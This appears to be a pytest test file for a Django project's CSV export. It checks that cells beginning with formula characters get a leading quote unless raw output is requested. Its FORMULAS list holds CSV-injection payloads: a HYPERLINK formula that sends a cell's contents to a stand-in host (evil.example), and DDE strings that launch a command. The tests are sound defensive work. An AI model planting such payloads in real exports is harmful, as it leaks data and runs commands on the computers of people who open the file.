"""CSV cells a spreadsheet would run as formulas are neutralised, unless raw values are asked for."""

from __future__ import annotations

from decimal import Decimal
from io import StringIO
from urllib.parse import parse_qs, urlsplit

import pytest
from django.contrib import admin
from django.core.management import call_command

from exports.admin_actions import export_land_action
from exports.services import EXPORT_TYPES
from exports.writers import csv_cell, iter_csv
from lands.models import Land, Tag, TaggedContent
from tests.exports.helpers import read_csv, run_export
from tests.exports.test_admin_action import admin_request

pytestmark = pytest.mark.urls("tests.exports.urls")

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]
PLAIN_NUMBERS = ["-3", "-0.5", "+7", "-.5", "-1e-05", "+2.5E+3"]
CSV_TYPES = [name for name, spec in EXPORT_TYPES.items() if spec.extension == "csv"]


def looks_like_a_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and cell not in PLAIN_NUMBERS


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell(text, raw=True) == text


@pytest.mark.parametrize("text", [*PLAIN_NUMBERS, "3-2", "a=b", "'=already quoted", "", "https://a.example/=x"])
def test_numbers_and_ordinary_text_are_unchanged(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"), [(-3, "-3"), (-0.5, "-0.5"), (Decimal("-2.50"), "-2.50"), (-1e-05, "-1e-05")]
)
def test_numbers_in_numeric_columns_stay_numbers(value, written):
    assert csv_cell(value) == written


def test_iter_csv_neutralises_every_text_field_but_not_the_header():
    data = b"".join(iter_csv(["id", "title"], [[-3, "=1+1"], [4, "@x"]]))

    assert read_csv(data) == (["id", "title"], [["-3", "'=1+1"], ["4", "'@x"]])
    assert read_csv(b"".join(iter_csv(["id", "title"], [[-3, "=1+1"]], raw=True)))[1] == [["-3", "=1+1"]]


@pytest.fixture
def formula_corpus(corpus):
    """The corpus with crawled text that spreadsheets would run: titles, descriptions, keywords, tags, domains."""
    page = corpus.pages["p2"]
    page.title, page.description, page.keywords = FORMULAS[0], FORMULAS[1], FORMULAS[3]
    page.readable = FORMULAS[2]
    page.save()
    corpus.pages["p3"].title = "-3"
    corpus.pages["p3"].save()
    domain = corpus.domains["b"]
    domain.title, domain.description = FORMULAS[4], FORMULAS[5]
    domain.save()
    TaggedContent.objects.create(tag=Tag.objects.create(land=corpus.land, name="@tag"), expression=page)
    media = corpus.media["m8"]
    media.analysis_error = FORMULAS[0]
    media.save()
    return corpus


@pytest.mark.parametrize("export_type", CSV_TYPES)
def test_no_csv_export_writes_a_formula_by_default(formula_corpus, export_type):
    _, rows = read_csv(run_export(formula_corpus.land, export_type, minrel=0)[0])
    _, raw_rows = read_csv(run_export(formula_corpus.land, export_type, minrel=0, raw=True)[0])

    assert [cell for row in rows for cell in row if looks_like_a_formula(cell)] == []
    # The corpus has no clusters and no text read in its pictures; the other types carry crawled text.
    if export_type not in ("clustercsv", "textcsv"):
        assert [cell for row in raw_rows for cell in row if looks_like_a_formula(cell)] != []


def test_raw_exports_keep_the_text_as_stored(formula_corpus):
    header, rows = read_csv(run_export(formula_corpus.land, "pagecsv", minrel=0, raw=True)[0])
    by_url = {row[header.index("url")]: row for row in rows}

    assert by_url["https://a.example/2"][header.index("title")] == FORMULAS[0]
    assert by_url["https://b.example/3"][header.index("title")] == "-3"


def test_default_exports_quote_the_formulas_and_keep_plain_numbers(formula_corpus):
    header, rows = read_csv(run_export(formula_corpus.land, "pagecsv", minrel=0)[0])
    by_url = {row[header.index("url")]: row for row in rows}

    assert by_url["https://a.example/2"][header.index("title")] == "'" + FORMULAS[0]
    assert by_url["https://b.example/3"][header.index("title")] == "-3"
    header, rows = read_csv(run_export(formula_corpus.land, "mediacsv", minrel=0)[0])
    errors = [row[header.index("analysis_error")] for row in rows if row[header.index("analysis_error")]]
    assert errors == ["'" + FORMULAS[0]]


def test_the_api_takes_raw(staff_api_client, formula_corpus):
    base = f"/api/lands/{formula_corpus.land.pk}/export/?type=pagecsv&minrel=0"

    neutral = b"".join(staff_api_client.get(base).streaming_content)
    raw = b"".join(staff_api_client.get(base + "&raw=true").streaming_content)

    assert b"'=HYPERLINK" in neutral
    assert b'"=HYPERLINK' in raw
    assert raw == run_export(formula_corpus.land, "pagecsv", minrel=0, raw=True)[0]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("type=pagecsv&raw=maybe", "raw must be true or false, got 'maybe'"),
        ("type=pagegexf&raw=true", "raw applies to CSV exports and the archive only, not pagegexf"),
    ],
)
def test_the_api_refuses_a_bad_raw(staff_api_client, corpus, query, message):
    response = staff_api_client.get(f"/api/lands/{corpus.land.pk}/export/?{query}")

    assert response.status_code == 400
    assert response.json()["errors"]["raw"] == [message]


def test_the_command_takes_raw(formula_corpus, tmp_path):
    for flag, name in ((), "neutral.csv"), (("--raw",), "raw.csv"):
        call_command(
            "export_land", "--land-id", str(formula_corpus.land.pk), "--type", "pagecsv", "--minrel", "0",
            *flag, "--output", str(tmp_path / name), stdout=StringIO(),
        )  # fmt: skip

    assert b"'=HYPERLINK" in (tmp_path / "neutral.csv").read_bytes()
    assert (tmp_path / "raw.csv").read_bytes() == run_export(formula_corpus.land, "pagecsv", minrel=0, raw=True)[0]


@pytest.mark.parametrize(
    ("export_type", "forwarded"), [("pagecsv", {"raw": ["true"]}), ("pagegexf", {}), ("clustercsv", {"raw": ["true"]})]
)
def test_the_admin_form_has_a_raw_checkbox_for_csv(rf, admin_user, corpus, export_type, forwarded):
    data = {"apply": "Export", "type": export_type, "minrel": "1", "nodes": "page", "raw": "on"}
    response = export_land_action(
        admin.ModelAdmin(Land, admin.site), admin_request(rf, admin_user, data), Land.objects.filter(pk=corpus.land.pk)
    )

    assert parse_qs(urlsplit(response.url).query) == {"type": [export_type], "minrel": ["1"], **forwarded}
